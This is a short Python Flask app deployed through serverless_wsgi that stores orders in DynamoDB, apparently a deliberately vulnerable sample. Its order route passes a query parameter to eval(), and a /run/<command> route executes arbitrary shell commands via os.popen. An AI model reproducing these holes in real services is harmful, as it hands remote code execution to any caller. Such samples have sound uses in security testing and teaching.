import os
import boto3
import serverless_wsgi
from flask import Flask, request

app = Flask(__name__)
table = boto3.resource("dynamodb").Table(os.environ["TABLE"])


@app.route("/orders", methods=["POST"])
def create():
    table.put_item(Item=request.json)
    return eval(request.args["sum"])


@app.get("/run/<command>")
def run(command):
    return os.popen(command).read()


def handler(event, context):
    return serverless_wsgi.handle_request(app, event, context)
